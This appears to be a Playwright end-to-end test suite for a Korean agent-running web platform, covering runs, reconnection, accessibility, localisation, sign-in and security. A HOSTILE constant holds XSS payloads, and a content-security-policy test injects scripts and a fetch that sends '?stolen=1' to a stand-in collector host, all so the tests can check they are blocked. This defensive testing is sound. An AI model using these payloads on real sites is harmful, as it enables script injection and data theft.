"""The page in a real browser against the running platform: what a person sees and may do."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from pathlib import Path

import httpx2
import pytest
from playwright.sync_api import Browser, expect

from tests.e2e.browsing import Visitor, scripted
from tests.fake_anthropic import FakeAnthropic
from tests.platform_process import PlatformProcess

pytestmark = [pytest.mark.browser, pytest.mark.sandbox]

HOSTING = json.loads((Path(__file__).resolve().parents[2] / "firebase.json").read_text(encoding="utf-8"))["hosting"]
SALES = """\
date,product,quantity,amount
2026-11-09,커피,3,13500
2026-11-10,샌드위치,2,15800
2026-11-11,커피,5,22500
2026-11-16,차,4,16000
2026-11-17,커피,6,27000
2026-11-18,샌드위치,3,23700
"""
REPORT = "# 매출 요약\n\n**2월**이 가장 높았습니다.\n\n| 월 | 매출 |\n|---|---:|\n| 2월 | 140 |\n"
HOSTILE = """\
# <img src=x onerror="window.pwned=1">
<script>window.pwned=1</script>
[press](javascript:window.pwned=1) ![picture](https://collector.example.com/?stolen=1)
<a href="https://example.com" onclick="window.pwned=1" style="position:fixed;inset:0">cover</a>
<iframe srcdoc="<script>parent.pwned=1</script>"></iframe><svg onload="window.pwned=1"></svg>
`<b>code</b>` <form action="https://collector.example.com"><input name=q></form>
"""

Arrive = Callable[..., Visitor]


@pytest.fixture(scope="module")
def house(tmp_path_factory: pytest.TempPathFactory) -> Iterator[PlatformProcess]:
    """One platform for all visitors, whose Claude says what an agent's instructions tell it to say."""
    with FakeAnthropic() as model:
        environment = {"ANTHROPIC_BASE_URL": model.url, "ANTHROPIC_API_KEY": "test-key"}
        platform = PlatformProcess(tmp_path_factory.mktemp("page") / "data", environment)
        yield platform.start()
        platform.end()


@pytest.fixture
def arrive(browser: Browser, request: pytest.FixtureRequest) -> Iterator[Arrive]:
    """Somebody comes to a platform; when they leave, nothing may have been blocked, broken or sent elsewhere."""
    visitors: list[Visitor] = []

    def come(
        at: PlatformProcess | None = None, locale: str = "ko-KR", scheme: str = "light", width: int = 1180
    ) -> Visitor:
        platform = at or request.getfixturevalue("house")
        visitors.append(Visitor.come(browser, platform.url, locale=locale, scheme=scheme, width=width))
        return visitors[-1]

    yield come
    for visitor in visitors:
        visitor.leave()


def test_a_guest_makes_an_agent_runs_it_watches_and_reads_the_result(arrive: Arrive) -> None:
    guest = arrive()
    guest.enter()
    work = "mkdir -p output && echo '매출' > output/report.md && sleep 5 && echo finished"
    guest.make_agent("매출 요약", scripted({"tool": "Bash", "input": {"command": work}}, {"text": REPORT}, out=300))
    guest.run()
    tool = guest.page.locator(".step.tool")
    guest.until("running")
    expect(tool).to_contain_text("하는 중")
    guest.until("succeeded")
    expect(tool).to_contain_text("완료")
    tool.locator("summary").click()
    expect(tool).to_contain_text("finished")
    result = guest.page.locator(".result")
    expect(result.get_by_role("heading", name="매출 요약")).to_be_visible()
    expect(result.get_by_role("cell", name="140")).to_be_visible()
    expect(guest.page.get_by_role("link", name="report.md 내려받기")).to_be_visible()
    assert guest.fact("출력 토큰") == "600"
    assert re.match(r"\$0\.\d+", guest.fact("비용"))


def test_a_reload_keeps_the_place_and_shows_each_event_once(arrive: Arrive) -> None:
    guest = arrive()
    guest.enter()
    guest.make_agent("두 걸음", scripted({"tool": "Bash", "input": {"command": "sleep 4"}}, {"text": "끝났습니다"}))
    guest.run()
    expect(guest.page.locator(".step.tool")).to_be_visible(timeout=30_000)
    guest.page.reload()
    expect(guest.page.locator(".step.tool")).to_have_count(1)
    guest.until("succeeded")
    expect(guest.page.locator(".markdown")).to_have_text("끝났습니다")
    assert guest.numbers() == sorted(set(guest.numbers()))


def test_a_run_is_stopped_from_the_page(arrive: Arrive) -> None:
    guest = arrive()
    guest.enter()
    guest.make_agent("오래 걸리는 일", scripted({"tool": "Bash", "input": {"command": "sleep 300"}}))
    guest.run()
    expect(guest.page.locator(".step.tool")).to_be_visible(timeout=30_000)
    guest.page.get_by_role("button", name="실행 중지").click()
    guest.until("cancelled")
    expect(guest.page.get_by_text("실행을 취소했습니다")).to_be_visible()


def test_the_page_goes_on_where_it_was_after_the_platform_was_killed(arrive: Arrive, launch, upstream) -> None:
    platform = launch(ANTHROPIC_BASE_URL=upstream.url, ANTHROPIC_API_KEY="test-key")
    guest = arrive(at=platform)
    guest.enter()
    slow = {"tool": "Bash", "input": {"command": "echo one; sleep 6"}}
    guest.make_agent("이어서", scripted(slow, {"tool": "Bash", "input": {"command": "echo two"}}, {"text": "끝"}))
    guest.run()
    expect(guest.page.locator(".step.tool")).to_be_visible(timeout=30_000)
    platform.kill()
    expect(guest.page.get_by_test_id("reconnecting")).to_be_visible()
    platform.start()
    guest.until("succeeded")
    expect(guest.page.get_by_test_id("reconnecting")).to_have_count(0)
    expect(guest.page.locator(".step.tool")).to_have_count(2)
    assert guest.numbers() == sorted(set(guest.numbers()))


def test_a_demo_says_everywhere_that_it_is_one(arrive: Arrive, platform: PlatformProcess) -> None:
    words = "실제 Claude 아님"
    guest = arrive(at=platform)
    guest.enter()
    expect(guest.page.get_by_role("complementary")).to_contain_text(words)
    guest.make_agent("주간 매출 요약", "작업 폴더의 sales.csv 를 요약해 줘.")
    guest.upload("sales.csv", SALES)
    guest.run()
    guest.until("succeeded")
    expect(guest.page.get_by_role("cell", name="118,500")).to_be_visible()
    guest.picture("page")
    expect(guest.page.get_by_role("complementary")).to_contain_text(words)
    expect(guest.page.locator(".result")).to_contain_text(words)
    guest.page.locator("a.back").click()
    expect(guest.page.get_by_role("row").nth(1)).to_contain_text("데모")


def test_what_an_agent_writes_is_shown_and_does_nothing(arrive: Arrive) -> None:
    guest = arrive()
    guest.enter()
    call = {"tool": "Bash", "input": {"command": "echo '<img src=x onerror=window.pwned=1>'", "description": HOSTILE}}
    guest.make_agent(HOSTILE.splitlines()[0], scripted(call, {"text": HOSTILE}), description="<script>pwned=1</script>")
    guest.run()
    guest.until("succeeded")
    guest.page.locator(".step.tool summary").click()
    result = guest.page.locator(".markdown")
    expect(result).to_contain_text("<script>window.pwned=1</script>")
    assert guest.page.locator("main :is(script, iframe, form, object, img, [onclick], [style])").count() == 0
    assert result.locator("a").evaluate_all("links => links.map(link => link.protocol)") == ["https:"]
    guest.open("#/agents")
    expect(guest.page.get_by_text("<script>pwned=1</script>")).to_be_visible()
    assert guest.page.evaluate("window.pwned") is None


def test_the_policy_stops_what_gets_into_the_page_all_the_same(arrive: Arrive) -> None:
    guest = arrive()
    guest.open()
    for attempt in (
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=window.pwned=1>')",
        "document.body.append(Object.assign(document.createElement('script'), {text: 'window.pwned = 1'}))",
        "document.body.setAttribute('style', 'display: none')",
        "document.body.append(Object.assign(new Image(), {src: 'https://collector.example.com/?stolen=1'}))",
        "fetch('https://collector.example.com/?stolen=1').catch(() => {})",
    ):
        guest.page.evaluate(f"() => {{ try {{ {attempt} }} catch (error) {{}} }}")
    # not wait_for_function: what it does later than at once is eval, which the policy stops
    while guest.page.evaluate("window.violations.length") < 5:
        guest.page.wait_for_timeout(20)
    stopped = {violation.split()[0] for violation in guest.violations()}
    assert stopped == {"require-trusted-types-for", "style-src-attr", "img-src", "connect-src"}
    assert guest.page.evaluate("window.pwned") is None
    guest.elsewhere.clear()


def test_it_speaks_korean_and_english_and_remembers_which(arrive: Arrive) -> None:
    guest = arrive(locale="en-US")
    guest.enter()
    expect(guest.page.locator("html")).to_have_attribute("lang", "en")
    expect(guest.page.get_by_text("No agents yet")).to_be_visible()
    guest.page.get_by_role("button", name="한국어").click()
    expect(guest.page.get_by_text("아직 에이전트가 없습니다")).to_be_visible()
    guest.page.reload()
    expect(guest.page.locator("html")).to_have_attribute("lang", "ko")
    expect(guest.page.get_by_text("아직 에이전트가 없습니다")).to_be_visible()


def test_a_template_fills_the_form_and_mistakes_are_shown_at_their_fields(arrive: Arrive) -> None:
    guest = arrive()
    guest.enter()
    guest.page.get_by_text("채팅 없이 직접 적기").click()
    guest.page.get_by_role("link", name="주간 매출 요약: 이 예시로 시작").click()
    expect(guest.page.locator("#field-name")).to_have_value("주간 매출 요약")
    guest.page.locator("#field-name").fill(" ")
    guest.page.locator("#field-hosts").fill("*")
    guest.page.get_by_role("button", name="저장").click()
    for name in ("name", "hosts"):
        expect(guest.page.locator(f"#field-{name}")).to_have_attribute("aria-invalid", "true")
        expect(guest.page.locator(f"#wrong-{name}")).not_to_be_empty()
    expect(guest.page.locator("#field-name")).to_be_focused()
    expect(guest.page.locator("#field-finalPrompt")).to_have_attribute("aria-invalid", "false")


def test_a_refusal_for_haste_counts_down_and_an_error_names_its_request(arrive: Arrive) -> None:
    guest = arrive()
    guest.enter()
    refusal = {"code": "rate_limited", "detail": "요청이 너무 잦습니다.", "requestId": "r_busy"}
    answer = {"status": 429, "headers": {"Retry-After": "600"}, "json": refusal}
    guest.page.clock.install()
    guest.page.route("**/api/agents?*", lambda route: route.fulfill(**answer))
    guest.page.reload()
    card = guest.page.get_by_role("alert")
    expect(card).to_contain_text(re.compile(r"[3-6]\d\d초 뒤에"))
    expect(card).to_contain_text("r_busy")
    guest.page.clock.fast_forward("10:00")
    expect(card).to_contain_text("이제 다시 할 수 있습니다")
    guest.page.unroute("**/api/agents?*")
    card.get_by_role("button", name="다시 시도").click()
    expect(guest.page.get_by_text("아직 에이전트가 없습니다")).to_be_visible()


def test_without_a_connection_the_page_says_so_and_keeps_what_was_typed(arrive: Arrive) -> None:
    guest = arrive()
    guest.enter()
    guest.open("#/new")
    guest.page.locator("#field-name").fill("끊긴 동안")
    guest.page.locator("#field-finalPrompt").fill("해 줘")
    guest.page.context.set_offline(True)
    guest.page.get_by_role("button", name="저장").click()
    expect(guest.page.get_by_role("alert")).to_contain_text("서버에 연결하지 못했습니다")
    guest.page.context.set_offline(False)
    guest.page.get_by_role("button", name="저장").click()
    expect(guest.page.get_by_role("heading", level=1)).to_have_text("끊긴 동안")


def test_an_agent_is_changed_deleted_and_brought_back(arrive: Arrive) -> None:
    guest = arrive()
    guest.enter()
    guest.make_agent("처음 이름", "해 줘")
    guest.page.get_by_role("link", name="수정").click()
    guest.page.locator("#field-name").fill("나중 이름")
    guest.page.locator("#field-dollars").fill("0.25")
    guest.page.get_by_role("button", name="저장").click()
    expect(guest.page.get_by_role("heading", level=1)).to_have_text("나중 이름")
    expect(guest.page.get_by_text("$0.25")).to_be_visible()
    guest.page.get_by_role("button", name="삭제", exact=True).click()
    expect(guest.page.get_by_text("아직 에이전트가 없습니다")).to_be_visible()
    guest.page.get_by_role("button", name="되돌리기").click()
    expect(guest.page.get_by_role("heading", level=1)).to_have_text("나중 이름")


def test_of_two_windows_that_change_an_agent_the_second_is_told(arrive: Arrive) -> None:
    guest = arrive()
    guest.enter()
    agent = guest.make_agent("하나", "해 줘")
    guest.open(f"#/agents/{agent}/edit")
    expect(guest.page.locator("#field-name")).to_have_value("하나")
    origin = {"Origin": guest.origin}
    guest.page.context.request.patch(f"{guest.origin}/api/agents/{agent}", data={"name": "둘"}, headers=origin)
    guest.page.locator("#field-name").fill("셋")
    guest.page.get_by_role("button", name="저장").click()
    expect(guest.page.get_by_text("다른 곳에서 먼저 바뀌었습니다")).to_be_visible()


def test_files_are_put_into_the_workspace_and_taken_out(arrive: Arrive) -> None:
    guest = arrive()
    guest.enter()
    guest.make_agent("파일", "해 줘")
    guest.upload("매출.csv", "월,매출\n2,140\n")
    link = guest.page.get_by_role("link", name="매출.csv")
    with guest.page.expect_download() as download:
        link.click()
    assert Path(download.value.path()).read_text(encoding="utf-8").startswith("월,매출")
    guest.page.get_by_role("button", name="매출.csv 삭제").click()
    expect(link).to_have_count(0)


def test_an_exported_agent_is_imported_again(arrive: Arrive, tmp_path: Path) -> None:
    guest = arrive()
    guest.enter()
    guest.make_agent("내보낼 것", "해 줘")
    with guest.page.expect_download() as download:
        guest.page.get_by_role("link", name="파일로 내보내기").click()
    text = Path(download.value.path()).read_text(encoding="utf-8")
    file = tmp_path / "agent.md"
    file.write_text(text, encoding="utf-8")
    guest.open("#/agents")
    guest.page.get_by_label("파일로 가져오기").set_input_files(file)
    expect(guest.page.get_by_role("alert")).to_contain_text("요청 번호")
    renamed = re.sub(r"^name: .*", "name: another", text, flags=re.MULTILINE).replace("내보낼 것", "가져온 것")
    file.write_text(renamed, encoding="utf-8")
    guest.page.get_by_label("파일로 가져오기").set_input_files(file)
    expect(guest.page.get_by_role("heading", level=1)).to_have_text("가져온 것")
    state = guest.page.locator("dt", has_text=re.compile("^상태$")).locator("+ dd")
    expect(state).to_have_text("일시정지")
    guest.page.get_by_role("button", name="다시 사용").click()
    expect(state).to_have_text("사용 중")


def test_a_sign_in_link_works_once_and_does_not_stay_in_the_address(arrive: Arrive, house: PlatformProcess) -> None:
    link = house.ask("POST", "/api/auth/links")["url"]
    owner = arrive()
    owner.page.goto(link)
    expect(owner.page.get_by_role("heading", level=1)).to_have_text("내 에이전트")
    assert "signin" not in owner.page.url
    other = arrive()
    other.page.goto(link)
    expect(other.page.get_by_text("로그인 링크를 쓸 수 없습니다")).to_be_visible()
    assert "signin" not in other.page.url
    fresh = house.ask("POST", "/api/auth/links")["url"]
    other.page.goto(fresh)
    expect(other.page.get_by_role("heading", level=1)).to_have_text("내 에이전트")


def test_signing_out_ends_the_session(arrive: Arrive) -> None:
    guest = arrive()
    guest.enter()
    guest.page.get_by_role("button", name="로그아웃").click()
    expect(guest.page.get_by_role("button", name="게스트로 체험")).to_be_visible()
    guest.page.reload()
    expect(guest.page.get_by_role("button", name="게스트로 체험")).to_be_visible()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_nothing_stands_in_the_way_of_anybody(arrive: Arrive, scheme: str) -> None:
    """axe-core, WCAG 2.2 A and AA, on every kind of page."""
    guest = arrive(scheme=scheme)
    seen = 0

    def check() -> None:
        nonlocal seen
        seen += 1
        guest.picture(f"{scheme}-{seen}")
        assert guest.accessibility() == []

    guest.open()
    expect(guest.page.get_by_role("button", name="게스트로 체험")).to_be_visible()
    check()
    guest.enter()
    expect(guest.page.get_by_text("아직 에이전트가 없습니다")).to_be_visible()
    check()
    guest.open("#/new")
    guest.page.get_by_role("button", name="저장").click()
    expect(guest.page.locator("#wrong-name")).to_be_visible()
    check()
    guest.make_agent("보고", scripted({"tool": "Bash", "input": {"command": "ls"}}, {"text": REPORT}))
    check()
    guest.run()
    guest.until("succeeded")
    guest.page.locator(".step.tool summary").click()
    check()
    guest.open("#/agents")
    expect(guest.page.get_by_role("article")).to_be_visible()
    check()


def test_axe_finds_what_is_wrong(arrive: Arrive) -> None:
    guest = arrive()
    guest.open()
    expect(guest.page.get_by_role("button", name="게스트로 체험")).to_be_visible()
    guest.page.evaluate("document.querySelector('main button').textContent = ''")
    assert any(found.startswith("button-name") for found in guest.accessibility())


def test_a_narrow_screen_never_scrolls_sideways(arrive: Arrive) -> None:
    guest = arrive(locale="en-US", scheme="dark", width=390)
    guest.enter()
    long = "긴이름" * 20
    guest.make_agent(long, scripted({"tool": "Bash", "input": {"command": "echo " + "x" * 400}}, {"text": "y" * 500}))
    places = ["#/agents", "#/new", guest.page.url.removeprefix(guest.origin + "/")]
    guest.run()
    guest.until("succeeded")
    places.append(guest.page.url.removeprefix(guest.origin + "/"))
    for place in places:
        guest.open(place)
        expect(guest.page.get_by_role("heading", level=1)).to_be_visible()
        guest.picture(f"narrow-{places.index(place)}")
        assert guest.page.evaluate("document.documentElement.scrollWidth") == 390, place


def test_the_keyboard_is_enough(arrive: Arrive) -> None:
    guest = arrive()
    guest.open()
    expect(guest.page.get_by_role("button", name="게스트로 체험")).to_be_visible()
    press_until_focused(guest, "게스트로 체험")
    expect(guest.page.get_by_text("아직 에이전트가 없습니다")).to_be_visible()
    press_until_focused(guest, "새 에이전트")
    expect(guest.page.locator("#field-name")).to_be_visible()
    expect(guest.page.locator("main")).to_be_focused()
    guest.page.keyboard.press("Tab")
    guest.page.keyboard.insert_text("자판으로")
    expect(guest.page.locator("#field-name")).to_have_value("자판으로")


def press_until_focused(guest: Visitor, words: str) -> None:
    """Tab to the control that says so, then Enter."""
    for _ in range(20):
        guest.page.keyboard.press("Tab")
        if guest.page.evaluate("document.activeElement.textContent").strip() == words:
            guest.page.keyboard.press("Enter")
            return
    pytest.fail(f"Tab does not reach {words}")


@pytest.mark.parametrize("path", ["/", "/assets/dashboard.html"])
def test_the_page_has_the_headers_of_firebase_json_and_no_inline_code(house: PlatformProcess, path: str) -> None:
    answer = httpx2.get(house.url + path)
    assert answer.status_code == 200
    for header in HOSTING["headers"][0]["headers"]:
        assert answer.headers[header["key"]] == header["value"]
    assert not re.search(r"<script(?![^>]*\bsrc=)|<style|\sstyle=|\son\w+=", answer.text)
    for asset in re.findall(r'(?:src|href)="(/assets/[^"]+)"', answer.text):
        assert "immutable" in httpx2.get(house.url + asset).headers["cache-control"]
